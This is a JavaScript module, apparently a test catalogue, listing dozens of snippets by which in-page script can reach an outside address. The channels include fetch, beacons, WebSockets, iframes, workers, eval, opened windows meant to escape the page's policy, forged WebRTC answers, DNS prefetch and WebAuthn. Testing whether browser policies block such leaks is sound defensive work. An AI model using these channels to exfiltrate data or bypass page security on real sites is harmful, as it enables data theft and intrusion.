// What code inside a page can try in order to tell somebody something.
//
// Each is a piece of JavaScript that is run in the page. `there` is an address that ends in the way's name; `add` makes an
// element and puts it into the page. Icons are left out, because a browser without a window loads none.

/** These leave the page where it is, so that all are tried at once. */
export const QUIET = {
  fetch: 'fetch(there, { mode: "no-cors" })',
  'fetch keepalive': 'fetch(there, { mode: "no-cors", keepalive: true, method: "POST", body: "x" })',
  fetchlater: 'fetchLater(there, { activateAfter: 0 })',
  xhr: 'const x = new XMLHttpRequest(); x.open("GET", there); x.send()',
  beacon: 'if (!navigator.sendBeacon(there, "x")) throw 0',
  websocket: 'new WebSocket(there.replace("http", "ws"))',
  eventsource: 'new EventSource(there)',
  ping: 'add("a", { href: "#ping", ping: there }).click()',
  image: 'add("img", { src: there })',
  'svg image': 'const s = document.createElementNS("http://www.w3.org/2000/svg", "svg"); const i = document.createElementNS("http://www.w3.org/2000/svg", "image"); i.setAttribute("href", there); s.append(i); document.body.append(s)',
  'css url': 'add("p", { textContent: "x" }).style.background = `url(${there})`',
  font: 'new FontFace("x", `url(${there})`).load()',
  style: 'add("link", { rel: "stylesheet", href: there })',
  'style import': 'add("style", { textContent: `@import "${there}"` })',
  script: 'add("script", { src: there })',
  'inline script': 'add("script", { textContent: `fetch("${there}", { mode: "no-cors" })` })',
  module: 'add("script", { type: "module", src: there })',
  import: 'import(there)',
  modulepreload: 'add("link", { rel: "modulepreload", href: there })',
  preload: 'add("link", { rel: "preload", as: "fetch", href: there, crossOrigin: "anonymous" })',
  prefetch: 'add("link", { rel: "prefetch", href: there })',
  iframe: 'add("iframe", { src: there })',
  'iframe srcdoc': 'add("iframe", { srcdoc: `<img src="${there}">` })',
  'blank frame': 'add("iframe", {}).contentWindow.fetch(there, { mode: "no-cors" })',
  object: 'add("object", { data: there })',
  embed: 'add("embed", { src: there })',
  video: 'add("video", { src: there, preload: "auto" })',
  track: 'const v = add("video", { crossOrigin: "anonymous" }); const t = document.createElement("track"); Object.assign(t, { kind: "captions", default: true, src: there }); v.append(t); t.track.mode = "showing"',
  form: 'const name = `away ${there}`; add("iframe", { name }); add("form", { action: there, method: "post", target: name }).submit()',
  'blob worker': 'new Worker(URL.createObjectURL(new Blob([`fetch("${there}", { mode: "no-cors" })`], { type: "text/javascript" })))',
  worklet: 'CSS.paintWorklet ? CSS.paintWorklet.addModule(there) : new AudioContext().audioWorklet.addModule(there)',
  eval: 'eval(`fetch("${there}", { mode: "no-cors" })`)',
  markup: 'document.body.insertAdjacentHTML("beforeend", `<img src="${there}">`)',
  handler: 'const p = add("p", {}); p.setAttribute("onclick", `fetch("${there}", { mode: "no-cors" })`); p.click()',
  'speculation rules': 'add("script", { type: "speculationrules", textContent: JSON.stringify({ prefetch: [{ source: "list", urls: [there], eagerness: "immediate" }] }) })',
};

/** Opens that address, and asks from its window once it stands there. */
const fromWindow = (address) => `
  const to = ${address};
  const w = open(to);
  const again = setInterval(() => {
    if (w.location.href !== to) return;
    clearInterval(again);
    w.fetch(there, { mode: 'no-cors' }).catch(() => {});
  }, 20);`;

/** These lead elsewhere or open a window; one answered with 204 leaves the page in its place. One after the other. */
export const LEADING = {
  navigation: 'location.href = there',
  link: 'add("a", { href: there }).click()',
  'download link': 'add("a", { href: there, download: "x" }).click()',
  'meta refresh': 'const m = document.createElement("meta"); m.httpEquiv = "refresh"; m.content = `0;url=${there}`; document.head.append(m)',
  'window.open': 'open(there)',
  'link to a new window': 'add("a", { href: there, target: "_blank" }).click()',
  'form to this page': 'add("form", { action: there }).submit()',
  // Windows in which the page's own policy may not hold: a file of the same host, an address without one, and a blank one.
  'window of a file': `const file = document.querySelector('link[rel=stylesheet]').href; ${fromWindow('file')}`,
  'window of no file': fromWindow('new URL("no-such-file", location).href'),
  'blank window': 'open("about:blank").fetch(there, { mode: "no-cors" })',
};

/** And one that only the own host can be told by: what stands in the address is sent when it is loaded again. */
export const RELOAD = { reload: 'history.replaceState(null, "", there.replace(location.origin, "")); location.reload()' };

/** Opens a connection to whoever stands in a made-up answer: `lines` are its candidates. The name goes along, as the user's. */
const peer = (name, lines, servers = '[]') => `
  const c = new RTCPeerConnection({ iceServers: ${servers} });
  c.createDataChannel('x');
  await c.setLocalDescription(await c.createOffer());
  await c.setRemoteDescription({ type: 'answer', sdp: ['v=0', 'o=- 1 1 IN IP4 0.0.0.0', 's=-', 't=0 0', 'a=group:BUNDLE 0',
    'm=application 9 UDP/DTLS/SCTP webrtc-datachannel', 'c=IN IP4 0.0.0.0', 'a=mid:0', 'a=ice-ufrag:${name}', 'a=ice-pwd:0123456789abcdef01234567',
    'a=fingerprint:sha-256 ' + Array(32).fill('AB').join(':'), 'a=setup:passive', 'a=sctp-port:5000', ${lines}, ''].join('\\r\\n') })`;

/** WebRTC: `host` and the ports `udp`, `tcp` and `stun` are somebody else's. */
export const WEBRTC = {
  'webrtc STUN': `const c = new RTCPeerConnection({ iceServers: [{ urls: 'stun:' + host + ':' + stun }] }); c.createDataChannel('x'); await c.setLocalDescription(await c.createOffer())`,
  'webrtc UDP': peer('webrtcUDP', `'a=candidate:1 1 udp 2130706431 ' + host + ' ' + udp + ' typ host'`),
  'webrtc TCP': peer('webrtcTCP', `'a=candidate:1 1 tcp 1518280447 ' + host + ' ' + tcp + ' typ host tcptype passive'`),
};

/** These send no request of their own: a name is looked up, or a connection opened for a name. `name` is that name. */
export const NAMES = {
  'dns-prefetch': 'add("link", { rel: "dns-prefetch", href: `https://${name}` })',
  preconnect: 'add("link", { rel: "preconnect", href: `https://${name}` })',
  'fetch by name': 'fetch(`https://${name}/`, { mode: "no-cors" })',
  'webrtc name': peer('webrtcname', `'a=candidate:1 1 udp 2130706431 ' + name + ' 443 typ host'`),
  'webrtc STUN name': `const c = new RTCPeerConnection({ iceServers: [{ urls: 'stun:' + name + ':9' }] }); c.createDataChannel('x'); await c.setLocalDescription(await c.createOffer())`,
  webauthn: 'navigator.credentials.get({ publicKey: { challenge: new Uint8Array(32), rpId: name, timeout: 10000 } })',
  fedcm: 'navigator.credentials.get({ identity: { providers: [{ configURL: `https://${name}/config.json`, clientId: "x" }] } })',
  payment: 'new PaymentRequest([{ supportedMethods: `https://${name}/pay` }], { total: { label: "x", amount: { currency: "EUR", value: "1" } } }).canMakePayment()',
};
